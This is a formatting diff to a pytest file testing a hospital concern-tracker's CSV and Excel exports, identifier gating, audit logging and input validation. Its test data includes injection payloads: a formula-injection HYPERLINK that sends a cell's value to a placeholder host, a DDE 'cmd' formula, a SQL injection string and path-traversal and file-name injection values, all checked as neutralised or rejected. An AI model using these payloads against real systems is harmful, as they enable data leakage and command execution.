@@ -29,7 +29,7 @@ from tracker.models import (
 from tracker.services import audit, exports, hospital
 
 LONDON = ZoneInfo("Europe/London")
-FORMULAS = ["=HYPERLINK(\"http://x.invalid/?\"&A1,\"ok\")", "+SUM(1+1)", "-2+3", "@SUM(1)", "\t=1+1", "|calc", "%0A"]
+FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1,"ok")', "+SUM(1+1)", "-2+3", "@SUM(1)", "\t=1+1", "|calc", "%0A"]
 
 
 def today() -> date:
@@ -38,8 +38,14 @@ def today() -> date:
 
 def period(start: date | None = None, end: date | None = None) -> dict:
     start, end = start or today().replace(day=1), end or today()
-    return {"from-day": start.day, "from-month": start.month, "from-year": start.year,
-            "to-day": end.day, "to-month": end.month, "to-year": end.year}
+    return {
+        "from-day": start.day,
+        "from-month": start.month,
+        "from-year": start.year,
+        "to-day": end.day,
+        "to-month": end.month,
+        "to-year": end.year,
+    }
 
 
 def export_calls(client, **fields):
@@ -56,9 +62,16 @@ def export_audit(client, **fields):
 
 
 def test_a_calls_export_opens_as_csv_without_patient_details(app, client, trust, manager):
-    make_concern(app, trust["ward"], patient_name="Pat Jones", status=ConcernStatus.CLOSED,
-                 concern_type=ConcernType.ACUTE_DETERIORATION, clinical_review_needed=True,
-                 deterioration_outcome=DeteriorationOutcome.CRITICAL_CARE_ADMISSION, closed_at=utcnow())
+    make_concern(
+        app,
+        trust["ward"],
+        patient_name="Pat Jones",
+        status=ConcernStatus.CLOSED,
+        concern_type=ConcernType.ACUTE_DETERIORATION,
+        clinical_review_needed=True,
+        deterioration_outcome=DeteriorationOutcome.CRITICAL_CARE_ADMISSION,
+        closed_at=utcnow(),
+    )
     response = export_calls(client)
     assert response.status_code == 200
     assert response.mimetype == "text/csv"
@@ -83,10 +96,15 @@ def test_times_in_the_export_are_the_trusts_local_time(app, client, trust, manag
     assert [row["Raised"] for row in rows] == ["2026-07-02 00:30:00"]
 
 
-def test_patient_details_come_only_with_the_box_ticked_and_a_reason_that_is_recorded(app, client, trust, manager,
-                                                                                      read):
-    make_concern(app, trust["ward"], patient_name="Zoë Ångström", hospital_number="RX1234",
-                 patient_dob=date(1950, 2, 3), bed="Bay 4")
+def test_patient_details_come_only_with_the_box_ticked_and_a_reason_that_is_recorded(app, client, trust, manager, read):
+    make_concern(
+        app,
+        trust["ward"],
+        patient_name="Zoë Ångström",
+        hospital_number="RX1234",
+        patient_dob=date(1950, 2, 3),
+        bed="Bay 4",
+    )
     refused = export_calls(client, identifiers="yes")
     assert refused.status_code == 400
     assert "Say why this export needs patient details" in refused.get_data(as_text=True)
@@ -116,12 +134,23 @@ def test_every_export_is_audited_with_who_when_and_the_filters(app, client, trus
 
 
 def test_filters_choose_the_calls(app, client, trust, manager):
-    closed_id, closed_ref = make_concern(app, trust["ward"], status=ConcernStatus.CLOSED,
-                                         concern_type=ConcernType.COMMUNICATION, clinical_review_needed=False,
-                                         closed_at=utcnow())
-    _, deteriorated = make_concern(app, trust["beds_ward"], status=ConcernStatus.CLOSED,
-                                   concern_type=ConcernType.ACUTE_DETERIORATION, clinical_review_needed=True,
-                                   deterioration_outcome=DeteriorationOutcome.NO_CHANGE, closed_at=utcnow())
+    closed_id, closed_ref = make_concern(
+        app,
+        trust["ward"],
+        status=ConcernStatus.CLOSED,
+        concern_type=ConcernType.COMMUNICATION,
+        clinical_review_needed=False,
+        closed_at=utcnow(),
+    )
+    _, deteriorated = make_concern(
+        app,
+        trust["beds_ward"],
+        status=ConcernStatus.CLOSED,
+        concern_type=ConcernType.ACUTE_DETERIORATION,
+        clinical_review_needed=True,
+        deterioration_outcome=DeteriorationOutcome.NO_CHANGE,
+        closed_at=utcnow(),
+    )
     _, open_ref = make_concern(app, trust["ward"])
 
     def references(**filters):
@@ -141,8 +170,15 @@ def test_another_sites_calls_are_never_exported(app, client, trust, manager):
     with app.app_context(), write_intent():
         actor = audit.Actor.cli()
         site = hospital.add_site(actor, code="far", name="Far Hospital")
-        team = hospital.add_team(actor, code="far-ccot", site=site, name="Far Team", population=Population.ADULT,
-                                 public_phone="020 7946 0555", duty_phone="07400 900555")
+        team = hospital.add_team(
+            actor,
+            code="far-ccot",
+            site=site,
+            name="Far Team",
+            population=Population.ADULT,
+            public_phone="020 7946 0555",
+            duty_phone="07400 900555",
+        )
         ward = hospital.add_ward(actor, code="far1", name="Far Ward", site=site, team=team, population=Population.ADULT)
         db.session.commit()
         far_ward, far_site = ward.id, site.code
@@ -157,8 +193,13 @@ def test_another_sites_calls_are_never_exported(app, client, trust, manager):
 
 @pytest.mark.parametrize("text", FORMULAS)
 def test_cells_that_look_like_formulas_are_made_inert_in_csv(app, client, trust, manager, text):
-    make_concern(app, trust["ward"], patient_name=text.replace("\t", " ") if text.startswith("\t") else text,
-                 caller_relationship=text, ward_response=text)
+    make_concern(
+        app,
+        trust["ward"],
+        patient_name=text.replace("\t", " ") if text.startswith("\t") else text,
+        caller_relationship=text,
+        ward_response=text,
+    )
     row = read_csv(export_calls(client, identifiers="yes", reason="Checking the export"))[0]
     assert row["Caller relationship"] == "'" + text
     assert row["What the ward team said"] == "'" + text
@@ -183,8 +224,15 @@ def read_xlsx(response) -> list[dict]:
 
 
 def test_a_calls_export_opens_in_excel_with_real_dates_and_inert_text(app, client, trust, manager):
-    make_concern(app, trust["ward"], caller_relationship="=1+1", patient_dob=date(2015, 6, 7),
-                 status=ConcernStatus.CLOSED, closed_at=utcnow(), priority=1)
+    make_concern(
+        app,
+        trust["ward"],
+        caller_relationship="=1+1",
+        patient_dob=date(2015, 6, 7),
+        status=ConcernStatus.CLOSED,
+        closed_at=utcnow(),
+        priority=1,
+    )
     response = export_calls(client, format="xlsx", identifiers="yes", reason="Checking Excel")
     assert response.status_code == 200
     assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
@@ -248,10 +296,18 @@ def test_the_audit_log_export_leaves_out_another_sites_calls(app, client, trust,
     with app.app_context(), write_intent():
         actor = audit.Actor.cli()
         site = hospital.add_site(actor, code="far", name="Far Hospital")
-        team = hospital.add_team(actor, code="far-ccot", site=site, name="Far Team", population=Population.ADULT,
-                                 public_phone="020 7946 0555", duty_phone="07400 900555")
-        far = hospital.add_ward(actor, code="far1", name="Far Ward", site=site, team=team,
-                                population=Population.ADULT).id
+        team = hospital.add_team(
+            actor,
+            code="far-ccot",
+            site=site,
+            name="Far Team",
+            population=Population.ADULT,
+            public_phone="020 7946 0555",
+            duty_phone="07400 900555",
+        )
+        far = hospital.add_ward(
+            actor, code="far1", name="Far Ward", site=site, team=team, population=Population.ADULT
+        ).id
         db.session.commit()
     _, elsewhere = make_concern(app, far)
     _, mine = make_concern(app, trust["ward"])
@@ -294,8 +350,10 @@ def test_an_export_needs_a_sign_in_within_five_minutes(app, client, trust, manag
         assert read.count(ExportLog) == 0
         page = client.get(stale.headers["Location"])
         assert page.status_code == 200 and "Confirm it is you" in page.get_data(as_text=True)
-        confirmed = client.post(stale.headers["Location"], data={
-            "csrf_token": token, "password": "correct horse battery staple", "code": code_now()})
+        confirmed = client.post(
+            stale.headers["Location"],
+            data={"csrf_token": token, "password": "correct horse battery staple", "code": code_now()},
+        )
         assert confirmed.status_code == 302
         back = confirmed.headers["Location"]
         assert back.startswith("/records/exports?") and "status=new" in back
@@ -332,10 +390,14 @@ def test_an_export_needs_a_csrf_token(client, trust, manager):
 # --- bad input ----------------------------------------------------------------------------------
 
 BAD_PERIODS = [
-    ({"from-day": "31", "from-month": "12", "from-year": "2026", "to-day": "1", "to-month": "1", "to-year": "2026"},
-     "The end date must be the same as or after the start date"),
-    ({"from-day": "1", "from-month": "1", "from-year": "1900", "to-day": "31", "to-month": "12", "to-year": "9999"},
-     "The start date must be between 1 January 2000"),
+    (
+        {"from-day": "31", "from-month": "12", "from-year": "2026", "to-day": "1", "to-month": "1", "to-year": "2026"},
+        "The end date must be the same as or after the start date",
+    ),
+    (
+        {"from-day": "1", "from-month": "1", "from-year": "1900", "to-day": "31", "to-month": "12", "to-year": "9999"},
+        "The start date must be between 1 January 2000",
+    ),
     ({"from-day": "45", "from-month": "13", "from-year": "2026"}, "The start date must be a real date"),
     ({"from-day": "yesterday", "from-month": "", "from-year": ""}, "The start date must be a real date"),
     ({"from-day": "1", "from-month": "1", "from-year": "99999999999999999999"}, "The start date must be a real date"),
@@ -356,27 +418,33 @@ def test_bad_dates_get_a_clear_message_not_a_file(client, trust, manager, read, 
     assert read.count(ExportLog) == 0
 
 
-@pytest.mark.parametrize(("field", "value", "message"), [
-    ("status", "deleted", "Choose a status from the list"),
-    ("status", "closed' OR '1'='1", "Choose a status from the list"),
-    ("outcome", "cured", "Choose an outcome from the list"),
-    ("ward", "../../etc/passwd", "Choose a ward from the list"),
-    ("ward", "999999", "Choose a ward from the list"),
-    ("site", "=cmd|' /C calc'!A0", "Choose a site from the list"),
-    ("format", "pdf", "Choose CSV or Excel"),
-])
+@pytest.mark.parametrize(
+    ("field", "value", "message"),
+    [
+        ("status", "deleted", "Choose a status from the list"),
+        ("status", "closed' OR '1'='1", "Choose a status from the list"),
+        ("outcome", "cured", "Choose an outcome from the list"),
+        ("ward", "../../etc/passwd", "Choose a ward from the list"),
+        ("ward", "999999", "Choose a ward from the list"),
+        ("site", "=cmd|' /C calc'!A0", "Choose a site from the list"),
+        ("format", "pdf", "Choose CSV or Excel"),
+    ],
+)
 def test_filters_not_on_the_list_get_a_clear_message(client, trust, manager, read, field, value, message):
     response = export_calls(client, **{field: value})
     assert response.status_code == 400 and message in response.get_data(as_text=True)
     assert read.count(ExportLog) == 0
 
 
-@pytest.mark.parametrize(("field", "value", "message"), [
-    ("user", "nobody@nowhere.invalid", "No staff account has that email address"),
-    ("action", "drop_table", "Choose an action from the list"),
-    ("reference", "MR-AAAA-AA", "No call with that reference at your site"),
-    ("reference", "../../etc/passwd", "No call with that reference at your site"),
-])
+@pytest.mark.parametrize(
+    ("field", "value", "message"),
+    [
+        ("user", "nobody@nowhere.invalid", "No staff account has that email address"),
+        ("action", "drop_table", "Choose an action from the list"),
+        ("reference", "MR-AAAA-AA", "No call with that reference at your site"),
+        ("reference", "../../etc/passwd", "No call with that reference at your site"),
+    ],
+)
 def test_audit_filters_not_found_get_a_clear_message(client, trust, manager, field, value, message):
     response = export_audit(client, **{field: value})
     assert response.status_code == 400 and message in response.get_data(as_text=True)
@@ -387,7 +455,7 @@ def test_unknown_fields_are_ignored(client, trust, manager):
     assert response.status_code == 200
 
 
-@pytest.mark.parametrize("name", ["../../etc/passwd", "..%2f..%2fsecret", "a\";b.csv", "x%00.csv"])
+@pytest.mark.parametrize("name", ["../../etc/passwd", "..%2f..%2fsecret", 'a";b.csv', "x%00.csv"])
 def test_file_names_come_from_the_server_never_the_request(client, trust, manager, name):
     data = {"csrf_token": csrf(client), **period(), "name": name, "filename": name}
     response = client.post(f"/records/exports/concerns?name={name}", data=data)
